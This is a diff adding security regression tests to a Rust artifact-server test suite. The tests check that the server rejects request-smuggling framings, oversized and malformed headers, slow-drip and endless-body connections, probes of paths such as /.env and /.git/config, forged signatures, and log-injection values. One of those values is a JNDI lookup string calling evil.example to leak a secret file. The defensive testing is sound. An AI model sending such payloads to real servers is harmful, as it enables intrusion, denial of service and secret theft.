@@ -4,25 +4,31 @@
 //! all requests of the row, or one for each, divided by `;`; `code` counts refused requests only, `×3` repeats one.
 
 use std::net::TcpListener;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use base64::Engine;
 use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
 use futures_util::TryStreamExt;
 use jsonwebtoken::Algorithm;
 use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpSocket;
+use wharfinger::clock::Clock;
 use wharfinger::model::{BlobId, BlobKind};
 use wharfinger::papers::{IssuerKind, IssuerSettings, Permission};
 
 use super::artifacts_v3::{V3, gzip};
+use super::bounds::{self, SHORT};
 use super::cache_api::{CacheJob, VERSION};
 use super::common::issuer::{Answer, KeyPair, KeySetServer};
-use super::common::raw::{Reply, exchange, request};
+use super::common::process::{Environment, Process};
+use super::common::raw::{Reply, converse, exchange, request};
+use super::common::s3::S3Server;
 use super::common::{Backend, Job, TestServer, block_link, block_list, issuer};
 
 const TABLE: &str = include_str!("../bad-inputs.tsv");
 /// The rows that must have code here, from and to.
-const NAMED: [(&str, &str); 11] = [
+const NAMED: [(&str, &str); 12] = [
     ("B001", "B008"),
     ("B010", "B012"),
     ("B014", "B019"),
@@ -32,25 +38,28 @@ const NAMED: [(&str, &str); 11] = [
     ("B060", "B094"),
     ("B100", "B109"),
     ("B120", "B129"),
-    ("B140", "B140"),
-    ("B163", "B163"),
+    ("B140", "B148"),
+    ("B159", "B159"),
+    ("B161", "B164"),
 ];
 /// Rows for which the server has no surface yet, from and to, and what brings it.
-const NOT_YET: [(&str, &str, &str); 8] = [
+const NOT_YET: [(&str, &str, &str); 6] = [
     ("B020", "B020", "comes with the revocation of tokens"),
     ("B024", "B024", "comes with API tokens"),
     ("B131", "B134", "comes with REST"),
-    ("B141", "B148", "comes with the limits on connections and overload"),
     ("B150", "B151", "comes with token exchange"),
     ("B152", "B158", "comes with the web pages"),
-    ("B159", "B162", "comes with quotas and the limits on overload"),
-    ("B164", "B164", "comes with the limits on overload"),
+    ("B160", "B160", "comes with quotas"),
 ];
 const ANSWER_WITHIN: Duration = Duration::from_secs(2);
 /// Small, so that rows need few requests to reach them.
 const MAX_PER_JOB: usize = 20;
 const MAX_ARTIFACT_BYTES: u64 = 1024 * 1024;
 const MAX_FILES: u32 = 5;
+/// More than one job can make, so that no other row reaches it.
+const MAX_PENDING_PER_RUN: usize = 25;
+/// `closed` in the table: the connection ends without a reply.
+const CLOSED: u16 = 0;
 const GITHUB_ISS: &str = "https://token.actions.githubusercontent.com";
 const ALLOWED_OWNER_ID: i64 = 583_231;
 
@@ -66,16 +75,22 @@ impl Row {
         let [id, _request, _auth, http, code, ..] = columns[..] else {
             panic!("a row has six columns: {line}");
         };
-        let repeated = |code: &'static str| match code.rsplit_once(" ×") {
-            Some((code, times)) => vec![code; times.parse().unwrap()],
-            None => vec![code],
+        let repeated = |answer: &'static str| match answer.rsplit_once(" ×") {
+            Some((answer, times)) => vec![answer; times.parse().unwrap()],
+            None => vec![answer],
+        };
+        let status = |status| match status {
+            "closed" => Some(CLOSED),
+            // Rows that are not run yet may say more than a number.
+            number => number.parse().ok(),
         };
         Self {
             id,
-            // Rows that are not run yet may say more than a number.
             statuses: http
                 .split(';')
-                .filter_map(|status| status.trim().parse().ok())
+                .map(str::trim)
+                .flat_map(repeated)
+                .filter_map(status)
                 .collect(),
             codes: code.split(';').map(str::trim).flat_map(repeated).collect(),
         }
@@ -100,6 +115,7 @@ struct PublicIssuers {
 
 /// A row being played, in a workflow run of its own.
 struct Case<'a> {
+    backend: Backend,
     server: &'a TestServer,
     issuers: &'a PublicIssuers,
     row: &'a Row,
@@ -113,8 +129,9 @@ struct Case<'a> {
 }
 
 impl<'a> Case<'a> {
-    fn new(server: &'a TestServer, issuers: &'a PublicIssuers, row: &'a Row) -> Self {
+    fn new(backend: Backend, server: &'a TestServer, issuers: &'a PublicIssuers, row: &'a Row) -> Self {
         Self {
+            backend,
             server,
             issuers,
             row,
@@ -132,18 +149,52 @@ impl<'a> Case<'a> {
 
     /// Sends the row's next request and compares the reply with the table.
     async fn send(&mut self, bytes: Vec<u8>) -> Reply {
+        let received = self.receive(&bytes).await;
+        assert!(!received.is_empty(), "{}: no reply", self.what(&bytes));
+        let reply = Reply::parse(&received);
+        self.judge(&bytes, &reply);
+        reply
+    }
+
+    /// Sends bytes that need be no request, and compares the one reply, or that there is none, with the table.
+    async fn send_raw(&mut self, bytes: impl AsRef<[u8]>) -> Option<Reply> {
+        let bytes = bytes.as_ref();
+        let received = self.receive(bytes).await;
+        let replies = received.windows(9).filter(|window| window == b"HTTP/1.1 ").count();
+        assert!(replies <= 1, "{}: {replies} replies", self.what(bytes));
+        if received.is_empty() {
+            self.compare(CLOSED, &self.what(bytes));
+            return None;
+        }
+        let reply = Reply::parse(&received);
+        self.judge(bytes, &reply);
+        Some(reply)
+    }
+
+    /// What comes from the server until it closes the connection, which it must do soon.
+    async fn receive(&self, bytes: &[u8]) -> Vec<u8> {
+        let receiving = tokio::time::timeout(ANSWER_WITHIN, converse(&self.server.url, bytes)).await;
+        receiving.unwrap_or_else(|_| panic!("{} was not answered in time", self.what(bytes)))
+    }
+
+    fn what(&self, bytes: &[u8]) -> String {
+        let line = String::from_utf8_lossy(&bytes[..bytes.len().min(120)]);
+        format!("{} request {}: {line}", self.row.id, self.sent)
+    }
+
+    /// Compares what became of the next request with the table.
+    fn compare(&mut self, status: u16, what: &str) {
+        assert_eq!(status, expected(self.row, &self.row.statuses, self.sent), "{what}");
+        self.sent += 1;
+        self.refused += usize::from(status >= 400);
+    }
+
+    /// Compares a reply with the table: its status, and its code in the dialect of the path.
+    fn judge(&mut self, bytes: &[u8], reply: &Reply) {
         let row = self.row;
         let line = String::from_utf8_lossy(&bytes[..bytes.len().min(120)]).into_owned();
         let what = || format!("{} request {}: {line}", row.id, self.sent);
-        let reply = tokio::time::timeout(ANSWER_WITHIN, exchange(&self.server.url, &bytes)).await;
-        let reply = reply.unwrap_or_else(|_| panic!("{} was not answered in time", what()));
-        assert_eq!(
-            reply.status,
-            expected(row, &row.statuses, self.sent),
-            "{} {reply:?}",
-            what()
-        );
-        // Codes in brackets: hyper answers, in no dialect.
+        // Codes in brackets: the answer has none.
         if !row.codes[0].starts_with('(') {
             let refusal = (reply.status >= 400).then(|| expected(row, &row.codes, self.refused));
             let target = line.split(' ').nth(1).unwrap();
@@ -180,9 +231,7 @@ impl<'a> Case<'a> {
                 }
             }
         }
-        self.sent += 1;
-        self.refused += usize::from(reply.status >= 400);
-        reply
+        self.compare(reply.status, &format!("{}: {reply:?}", what()));
     }
 
     /// Passes over a request that can't be sent yet.
@@ -1214,6 +1263,139 @@ rows! { case;
             assert!(link.starts_with(&format!("{}/blob/art/", case.server.url)), "{link}");
         }
     }
+    "B141" => {
+        case.upload(b"kept").await;
+        let bearer = case.job.token.clone();
+        let head = |method| format!(
+            "POST {} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer {bearer}\r\n",
+            twirp(method)
+        );
+        let delete = case.message(json!({ "name": "B141" })).to_string();
+        let delete = format!(
+            "{}Connection: close\r\nContent-Length: {}\r\n\r\n{delete}",
+            head("DeleteArtifact"),
+            delete.len()
+        );
+        let list = case.message(json!({})).to_string();
+        let chunked = format!("{:x}\r\n{list}\r\n0\r\n\r\n", list.len());
+        let both = format!("Content-Length: {}", chunked.len() + delete.len());
+        for framing in [
+            &format!("{both}\r\nTransfer-Encoding: chunked"),
+            &format!("Transfer-Encoding: chunked\r\n{both}"),
+            &format!("X: x\nTransfer-Encoding: chunked\r\n{both}"),
+            "Transfer-Encoding: chunked, identity",
+            "Transfer-Encoding: identity, chunked",
+            "Transfer-Encoding : chunked",
+            "Transfer-Encoding: \x0bchunked",
+            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
+            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
+            "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
+            "Transfer-Encoding:\r\n chunked",
+            "Content-Length: 0x10",
+            "Content-Length: 2\r\nContent-Length: 3",
+        ] {
+            case.send_raw(format!("{}{framing}\r\n\r\n{chunked}{delete}", head("ListArtifacts"))).await;
+            assert_eq!(case.job.names().await, ["B141"], "{framing}");
+        }
+        let bare = chunked.replace("\r\n", "\n");
+        let framing = "Transfer-Encoding: chunked";
+        case.send_raw(format!("{}{framing}\r\n\r\n{bare}{delete}", head("ListArtifacts"))).await;
+        assert_eq!(case.job.names().await, ["B141"]);
+        // Behind a request whose end is clear, it is a request.
+        let both = format!("{}{framing}\r\n\r\n{chunked}{delete}", head("ListArtifacts"));
+        case.receive(both.as_bytes()).await;
+        assert_eq!(case.job.names().await, [""; 0]);
+        case.left.clear();
+    }
+    "B143" => {
+        let lines = (0..98).map(|i| format!("x-{i}: x\r\n")).collect::<String>();
+        let get = |target: &str, lines: &str| {
+            format!("GET {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{lines}\r\n")
+        };
+        case.send_raw(get("/", &format!("{lines}x-98: x\r\n"))).await;
+        case.send_raw(get("/", &format!("x: {}\r\n", "x".repeat(70 * 1024)))).await;
+        case.send_raw(get(&format!("/{}", "x".repeat(9 * 1024)), &lines)).await;
+        case.send_raw(get(&format!("/{}", "x".repeat(70 * 1024)), "")).await;
+        case.send_raw(get("/", "x y: x\r\n")).await;
+        case.send_raw(get("/", "x: x\0\r\n")).await;
+    }
+    "B144" => {
+        slow(case).await;
+    }
+    "B146" => {
+        case.send_raw("GET /\r\n\r\n").await;
+        case.send_raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await;
+        case.send_raw("PRI junk\r\n\r\n").await;
+        case.send_raw(b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\r\n\r\n").await;
+        for target in ["CONNECT evil.example:443", "TRACE /", "OPTIONS *"] {
+            let request = format!("{target} HTTP/1.1\r\nHost: localhost\r\nX-Secret: echo\r\nConnection: close\r\n\r\n");
+            let reply = case.send_raw(request).await.unwrap();
+            assert_eq!(reply.json(), json!({ "message": "Not Found" }), "{target}");
+        }
+    }
+    "B148" => {
+        let link = case.create().await;
+        let forged = with_param(&link, "sig", &"A".repeat(43));
+        let bearer = format!("Bearer {}", case.job.token);
+        let block = block_link(&link, "QUFB");
+        for (method, target, headers) in [
+            ("PUT", target(case.server, &forged), vec![("x-ms-blob-type", "BlockBlob")]),
+            ("PUT", target(case.server, &block), vec![]),
+            ("POST", &twirp("CreateArtifact"), vec![JSON, ("Authorization", &bearer)]),
+        ] {
+            let length = [("Content-Length", "1073741824")];
+            let head = request(method, target, &[&headers[..], &length].concat(), b"");
+            let (reply, sent) = endless(&case.server.url, &head).await;
+            println!("B148: {} after {sent} bytes", reply.status);
+            assert!(sent < 1024 * 1024, "B148: the server took {sent} bytes");
+            case.judge(&head, &reply);
+        }
+    }
+    "B159" => {
+        for path in ["/metrics", "/debug/pprof", "/.env", "/.git/config", "/minio/bootstrap/v1/verify"] {
+            let reply = case.send(request("GET", path, &[], b"")).await;
+            assert_eq!(reply.json(), json!({ "message": "Not Found" }), "{path}");
+        }
+    }
+    "B161" => {
+        let other = case.server.job_of("octo/demo", "B161", "other");
+        for number in 0..MAX_PENDING_PER_RUN {
+            let job = if number < MAX_PER_JOB { &case.job } else { &other };
+            job.create(&format!("pending-{number}")).await;
+        }
+        let over = json!({ "name": "over", "version": 4 });
+        let reply = case.call("CreateArtifact", over).await;
+        assert!(reply.text().contains("insufficient usage"), "{}", reply.text());
+        // Once more the same is no further one, what is finalized does not count, and other runs count for themselves.
+        let last = format!("pending-{}", MAX_PENDING_PER_RUN - 1);
+        other.upload(&last, b"x").await;
+        case.left.push(last);
+        other.create("room again").await;
+        case.server.job_of("octo/demo", "B161-2", "build").create("x").await;
+    }
+    "B162" => {
+        let server = TestServer::start(case.backend).await;
+        let link = server.job().create("B162").await;
+        server.job().upload("read", b"x").await;
+        let read = server.job().link("read").await;
+        server.app.services.db.close().await;
+        for number in 0..200 {
+            let (method, link) = match number % 4 {
+                0 => ("PUT", block_link(&link, "QUFB")),
+                1 => ("PUT", format!("{link}&comp=blocklist")),
+                2 => ("GET", read.clone()),
+                _ => ("HEAD", read.clone()),
+            };
+            let forged = with_param(&link, "sig", &URL_SAFE_NO_PAD.encode([u8::try_from(number).unwrap(); 32]));
+            let bytes = request(method, target(&server, &forged), &[], b"x");
+            let reply = tokio::time::timeout(ANSWER_WITHIN, exchange(&server.url, &bytes)).await.unwrap();
+            case.judge(&bytes, &reply);
+        }
+        // A good one needs it.
+        let good = exchange(&server.url, &request("GET", target(&server, &read), &[], b"")).await;
+        assert!(good.status >= 500, "{good:?}");
+        server.stop().await;
+    }
     "B163" => {
         let PublicIssuers { key, keys } = case.issuers;
         let before = keys.requests();
@@ -1230,6 +1412,158 @@ rows! { case;
         };
         assert_eq!(good.names().await, [""; 0]);
     }
+    "B164" => {
+        odd_headers(case).await;
+    }
+}
+
+/// B144, on a server that is as impatient as a test.
+async fn slow(case: &mut Case<'_>) {
+    let server = TestServer::start_with(case.backend, |config| {
+        bounds::one_stream(config);
+        config.server.head_timeout = SHORT;
+        config.server.idle_timeout = SHORT;
+        config.server.body_idle_timeout = SHORT;
+        config.server.max_connections = 10;
+    })
+    .await;
+    let job = server.job();
+    let mut silent = bounds::connect(&server).await;
+    assert_eq!(bounds::rest(&mut silent).await, b"");
+    case.compare(CLOSED, "no bytes");
+
+    let mut slow = bounds::connect(&server).await;
+    trickle(&mut slow).await;
+    assert_eq!(bounds::rest(&mut slow).await, b"");
+    case.compare(CLOSED, "a head byte by byte");
+
+    let mut slow = bounds::connect(&server).await;
+    let bearer = format!("Bearer {}", job.token);
+    let headers = [JSON, ("Authorization", &bearer), ("Content-Length", "100000")];
+    let head = request("POST", &twirp("CreateArtifact"), &headers, b"");
+    slow.write_all(&head).await.unwrap();
+    let (mut reader, mut writer) = slow.split();
+    let mut reply = Vec::new();
+    let reading = tokio::time::timeout(bounds::PATIENCE, reader.read_to_end(&mut reply));
+    let (_, ended) = tokio::join!(trickle(&mut writer), reading);
+    // An error is an end as well, if the reply came before it.
+    let _ = ended.expect("the server closes");
+    case.judge(&head, &Reply::parse(&reply));
+
+    // More than the sockets between can hold.
+    let bytes = vec![7; 32 << 20];
+    job.upload("large", &bytes).await;
+    let link = job.link("large").await;
+    let mut deaf = bounds::connect(&server).await;
+    deaf.write_all(&request("GET", target(&server, &link), &[], b""))
+        .await
+        .unwrap();
+    deaf.read_exact(&mut [0; 12]).await.unwrap();
+    let other = tokio::time::timeout(bounds::PATIENCE, job.download("large")).await;
+    assert!(other.expect("the deaf one loses its place") == bytes);
+    assert!(bounds::rest(&mut deaf).await.len() < bytes.len(), "cut, not served");
+    case.compare(CLOSED, "a response that is hardly read");
+
+    let mut idle = Vec::new();
+    for _ in 0..30 {
+        idle.push(bounds::connect(&server).await);
+    }
+    let served = tokio::time::timeout(bounds::PATIENCE, job.names()).await;
+    assert_eq!(served.expect("idle connections give way"), ["large"]);
+    for socket in &mut idle {
+        assert_eq!(bounds::rest(socket).await, b"");
+    }
+    case.compare(CLOSED, "idle connections");
+    server.stop().await;
+}
+
+/// Writes byte after byte until the server will have no more.
+async fn trickle(writer: &mut (impl AsyncWriteExt + Unpin)) {
+    let begun = Instant::now();
+    while writer.write_all(b"G").await.is_ok() {
+        assert!(begun.elapsed() < bounds::PATIENCE, "the server waits for ever");
+        tokio::time::sleep(SHORT / 20).await;
+    }
+}
+
+/// Sends a head and then zeros for as long as the server takes them. Returns the reply, and how many that were.
+async fn endless(origin: &str, head: &[u8]) -> (Reply, usize) {
+    let socket = TcpSocket::new_v4().unwrap();
+    // What lies in the sockets was not taken by the server.
+    socket.set_send_buffer_size(64 * 1024).unwrap();
+    let address = origin.strip_prefix("http://").unwrap().parse().unwrap();
+    let mut socket = socket.connect(address).await.unwrap();
+    let (mut reader, mut writer) = socket.split();
+    writer.write_all(head).await.unwrap();
+    let sending = async {
+        let mut sent = 0;
+        while let Ok(bytes) = writer.write(&[0; 16 * 1024]).await {
+            sent += bytes;
+        }
+        sent
+    };
+    let mut received = Vec::new();
+    let both = async { tokio::join!(sending, reader.read_to_end(&mut received)) };
+    let (sent, _) = tokio::time::timeout(ANSWER_WITHIN, both).await.expect("reply and end");
+    (Reply::parse(&received), sent)
+}
+
+/// B164, on a server whose log can be read.
+async fn odd_headers(case: &mut Case<'_>) {
+    let directory = tempfile::tempdir().unwrap();
+    let s3 = (case.backend == Backend::PostgresS3).then(S3Server::start);
+    let mut environment = Environment::on(case.backend, directory.path(), s3.as_ref()).await;
+    environment.set(
+        "WHARFINGER_CONFIG",
+        issuer::config_file(directory.path(), "forge").display(),
+    );
+    let process = Process::start(&environment);
+    let bearer = format!("Bearer {}", process.token("octo/demo", "B164", "build"));
+    let list = case.message(json!({})).to_string();
+    let good = |bearer: &str, name: &str, value: &str| {
+        let headers = [JSON, ("Authorization", bearer), (name, value)];
+        request("POST", &twirp("ListArtifacts"), &headers, list.as_bytes())
+    };
+    let mut requests = Vec::new();
+    for name in ["User-Agent", "x-request-id", "traceparent"] {
+        for value in [
+            "a\r\nlevel: admin",
+            &"x".repeat(8 * 1024),
+            "${jndi:ldap://evil.example/${env:WHARFINGER_SECRET_FILE}}",
+            "\"},{\"level\":\"admin\"",
+            "\u{2028}{\"level\":\"admin\"}\u{85}",
+        ] {
+            requests.push(good(&bearer, name, value));
+        }
+    }
+    requests.push(request("GET", "/%0a%7b%22level%22:%22admin%22%7d\"\\", &[], b""));
+    // Of the process's own clock: other rows may have moved the test's.
+    let now_ms = Clock::System.now_ms();
+    let mut claims = issuer::claims("forge", "octo/demo", "B164", "build", now_ms);
+    claims["actor"] = json!("\n{\"level\":\"admin\"}");
+    let actor = forge_token(issuer::HEADER, &claims.to_string());
+    requests.push(good(&format!("Bearer {actor}"), "User-Agent", "x"));
+    let logged = requests.len();
+    for control in ["\x1b[2J", "\x7f"] {
+        requests.push(good(&bearer, "User-Agent", control));
+    }
+    for bytes in &requests {
+        let reply = tokio::time::timeout(ANSWER_WITHIN, exchange(&process.url, bytes))
+            .await
+            .unwrap();
+        case.judge(bytes, &reply);
+    }
+    let mut lines = 0;
+    for line in process.log_to_its_end() {
+        let entry: Value = serde_json::from_str(&line).unwrap_or_else(|error| panic!("{error}: {line}"));
+        assert!(["INFO", "WARN"].contains(&entry["level"].as_str().unwrap()), "{line}");
+        assert!(
+            line.len() < 16 * 1024 && !line.contains('\u{2028}') && !line.contains('\x7f'),
+            "{line}"
+        );
+        lines += usize::from(entry["message"] == "request");
+    }
+    assert_eq!(lines, logged, "one line each");
 }
 
 /// Whether `id` lies in `from..=to`; `B033b` lies between `B033` and `B034`.
@@ -1260,6 +1594,7 @@ async fn play_all(backend: Backend) {
         config.artifacts.max_per_job = u32::try_from(MAX_PER_JOB).unwrap();
         config.artifacts.max_size_bytes = MAX_ARTIFACT_BYTES;
         config.artifacts.max_files = MAX_FILES;
+        config.artifacts.max_pending_per_run = u32::try_from(MAX_PENDING_PER_RUN).unwrap();
     })
     .await;
     // What B022 leaves in another repository's run.
@@ -1275,7 +1610,7 @@ async fn play_all(backend: Backend) {
             "{} is a new row: give it code or say why it has none",
             row.id
         );
-        let mut case = Case::new(&server, &issuers, row);
+        let mut case = Case::new(backend, &server, &issuers, row);
         Box::pin(play(row.id, &mut case)).await;
         finalized += case.finish().await;
     }
